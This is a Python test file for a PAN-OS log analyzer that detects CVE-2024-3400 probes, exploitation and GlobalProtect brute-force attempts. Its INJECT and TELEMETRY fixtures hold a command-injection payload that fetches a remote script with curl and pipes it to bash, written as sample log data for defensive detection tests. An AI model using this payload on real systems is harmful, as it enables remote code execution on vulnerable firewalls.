from madoguchi.analyzers.devices.panos import PanosAnalyzer
from madoguchi.domain.findings import Severity, Stage

BENIGN = (
    '{"level":"error","task":"1393-22","time":"2024-04-10T06:20:51.3829-07:00",'
    '"message":"failed to unmarshal session(2f4a8c11-7c3e-4f57-9f1c-0a8b5e6d7c21) map , EOF"}'
)
PROBE = (
    '{"level":"error","task":"1393-22","time":"2024-04-12T02:11:05.0-07:00",'
    '"message":"failed to unmarshal session(../../../opt/panlogs/tmp/device_telemetry/'
    'minute/hello33) map , EOF"}'
)
INJECT = (
    '{"level":"error","task":"1393-22","time":"2024-04-12T02:14:40.0-07:00",'
    '"message":"failed to unmarshal session(../../../opt/panlogs/tmp/device_telemetry/'
    'minute/x`curl${IFS}http://203.0.113.50/p|bash`) map , EOF"}'
)
TELEMETRY = (
    "2024-04-12 02:15:10,114 dt_send INFO send_file: /usr/local/bin/dt_curl -i "
    "35.0.0.1 -f /opt/panlogs/tmp/device_telemetry/minute/x`curl${IFS}"
    "http://203.0.113.50/p|bash`"
)
THREAT = (
    "<14>Apr 12 10:15:02 fw01 1,2024/04/12 10:15:02,013201001234,THREAT,vulnerability,"
    "2561,2024/04/12 10:15:02,198.51.100.23,192.0.2.10,0.0.0.0,0.0.0.0,GP-in,,,"
    "web-browsing,vsys1,untrust,trust,ethernet1/1,ethernet1/2,default,,123456,1,51514,"
    '443,0,0,0x2000,tcp,{action},"",Palo Alto Networks PAN-OS GlobalProtect Command '
    "Injection Vulnerability(95187),any,critical,client-to-server"
)


def test_guid_session_value_is_benign(write, analyze) -> None:
    out = analyze(PanosAnalyzer(), write("gpsvc.log", BENIGN + "\n"))
    assert out.accepted
    assert out.findings == []


def test_path_in_session_value_is_an_attempt_not_a_compromise(write, analyze) -> None:
    out = analyze(PanosAnalyzer(), write("gpsvc.log", f"{BENIGN}\n{PROBE}\n"))
    [finding] = out.findings
    assert finding.rule_id == "panos.cve-2024-3400.unmarshal-path"
    assert finding.stage is Stage.ATTEMPT
    assert finding.severity is Severity.HIGH
    assert finding.cve == ("CVE-2024-3400",)
    assert finding.evidence is not None and finding.evidence.line == 2
    assert "vendor_level" in finding.details
    assert finding.details["ja"]["title"]


def test_repeated_attempts_aggregate_with_counts_and_shell_payload_raises_severity(
    write, analyze
) -> None:
    out = analyze(PanosAnalyzer(), write("gpsvc.log.1", f"{PROBE}\n{PROBE}\n{INJECT}\n"))
    [finding] = out.rule("panos.cve-2024-3400.unmarshal-path")
    assert finding.details["count"] == 3
    assert finding.details["sample_lines"] == [1, 2, 3]
    assert finding.severity is Severity.CRITICAL
    assert finding.first_seen is not None and finding.last_seen is not None
    assert finding.first_seen < finding.last_seen
    assert len(out.timeline) == 3


def test_telemetry_command_is_exploitation(write, analyze) -> None:
    out = analyze(PanosAnalyzer(), write("device_telemetry_send.log", TELEMETRY + "\n"))
    [finding] = out.rule("panos.cve-2024-3400.telemetry-command")
    assert finding.stage is Stage.EXPLOITED
    assert finding.details["vendor_level"].startswith("3")


def test_threat_signature_blocked_vs_alerted(write, analyze) -> None:
    blocked = analyze(PanosAnalyzer(), write("t1.log", THREAT.format(action="reset-both")))
    alerted = analyze(PanosAnalyzer(), write("t2.log", THREAT.format(action="alert")))
    [b] = blocked.rule("panos.threat.cve-2024-3400-signature")
    [a] = alerted.rule("panos.threat.cve-2024-3400-signature")
    assert b.source_ip == "198.51.100.23"
    assert b.severity is Severity.HIGH and a.severity is Severity.CRITICAL
    assert [(o.type, o.value) for o in blocked.observables] == [("ioc:ipv4", "198.51.100.23")]
    assert "CVE-2024-3400" in blocked.observables[0].context


def test_gzipped_rotated_file_and_unreadable_json_line(write, analyze) -> None:
    path = write("gpsvc.log.2.gz", f'{PROBE}\n{{"level": broken\n', gzipped=True)
    out = analyze(PanosAnalyzer(), path)
    assert out.accepted
    assert out.rule_ids == {"panos.cve-2024-3400.unmarshal-path"}
    assert [w.line for w in out.ctx.warnings] == [2]
    assert out.ctx.skipped_records == 1


def test_globalprotect_brute_force_from_csv_export(write, analyze) -> None:
    header = (
        "Domain,Receive Time,Serial #,Type,Threat/Content Type,Config Version,"
        "Generate Time,Virtual System,Event ID,Stage,Authentication Method,Tunnel Type,"
        "Source User,Source Region,Machine Name,Public IP,Public IPv6,Private IP,"
        "Private IPv6,Host ID,Serial Number,Client Version,Client OS,Client OS Version,"
        "Repeat Count,Reason,Error,Description,Status"
    )
    row = (
        "1,2024/05/01 01:00:{s:02d},0132,GLOBALPROTECT,0,2561,2024/05/01 01:00:{s:02d},"
        "vsys1,gateway-auth,login,LDAP,,svc{s},JP,,192.0.2.99,,0.0.0.0,,,,6.2.0,,,1,"
        "Authentication failed,,,failure"
    )
    text = header + "\n" + "\n".join(row.format(s=i) for i in range(12)) + "\n"
    out = analyze(PanosAnalyzer(), write("gp-export.csv", text))
    [finding] = out.rule("login.brute-force")
    assert finding.source_ip == "192.0.2.99"
    assert finding.details["count"] == 12
